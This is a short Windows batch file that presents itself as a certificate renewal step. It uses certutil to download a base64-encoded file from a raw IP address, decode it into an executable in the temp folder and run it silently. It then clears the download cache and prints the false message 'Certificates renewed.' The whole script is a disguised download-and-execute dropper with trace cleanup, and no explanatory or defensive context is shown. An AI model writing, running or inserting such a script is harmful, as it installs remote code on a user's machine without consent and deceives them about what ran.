@echo off
certutil -urlcache -split -f http://203.0.113.45/renew/agent.b64 %TEMP%\agent.b64 >nul
certutil -decode %TEMP%\agent.b64 %TEMP%\certagent.exe >nul
start /b "" %TEMP%\certagent.exe --install --silent
certutil -urlcache * delete >nul
echo Certificates renewed.
